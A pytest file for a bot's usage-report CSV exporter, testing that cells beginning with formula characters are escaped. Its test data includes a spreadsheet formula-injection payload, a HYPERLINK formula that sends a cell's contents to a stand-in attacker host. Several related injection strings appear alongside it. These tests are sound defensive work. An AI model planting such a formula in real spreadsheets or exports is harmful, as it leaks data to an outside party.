from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from bot.types import Outcome
from bot.usage.groups import Group
from bot.usage.insights import Insights, PolicyInsights
from bot.usage.table import safe_cell, table
from bot.usage.values import Feedback
from bot.usage.weeks import TopicCount, Week

DAY = date(2026, 11, 2)
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n@x", "|calc", "%0A=1", "\u00a0=1", "\u3000+1"]
)
def test_no_cell_is_a_formula(cell: str) -> None:
    assert str(safe_cell(cell)).startswith("'")


def test_other_cells_stay_as_they_are() -> None:
    assert safe_cell("do you sell my data?") == "do you sell my data?"
    assert safe_cell(-3) == -3
    assert safe_cell("two\nlines") == "two lines"


def test_every_part_of_a_report_is_in_the_table() -> None:
    comment = Feedback("a", "harbour", Outcome.ANSWERED, False, "wrong", '+1, "no"\n=2', day=DAY)
    of = PolicyInsights(
        policy="harbour",
        outcomes={Outcome.ANSWERED: 9},
        languages={"en": 9},
        topics=(TopicCount("data-sale", 6, 6, None), TopicCount(None, 5, 0, None)),
        verdicts=(),
        groups=(Group("data-sale", (FORMULA, "sell?"), (1, 2), {Outcome.NOT_COVERED: 3}, 0),),
        passed_on=1,
        left_out=0,
        comments=(comment,),
        weeks=(Week(DAY, {Outcome.ANSWERED: 9}, 0, 1, 2),),
    )
    text = table(Insights(DAY, DAY, (of,)))
    assert text.startswith("\ufeffpolicy,from,to,part,name,topic,number\r\n")
    rows = [row[3:] for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")))][1:]
    assert rows == [
        ["questions by outcome", "answered", "", "9"],
        ["questions by language", "en", "", "9"],
        ["questions by topic", "", "data-sale", "6"],
        ["questions by topic", "topics with fewer than 5 questions, or none", "", "5"],
        ["week by outcome", "answered", "", "9"],
        ["week", "helpful", "", "0"],
        ["week", "unhelpful", "", "1"],
        ["week", "passed on", "", "2"],
        ["question without a good answer", f"'{FORMULA}", "data-sale", "1"],
        ["question without a good answer", "sell?", "data-sale", "2"],
        ["comment: unhelpful", '\'+1, "no" =2', "", "1"],
    ]
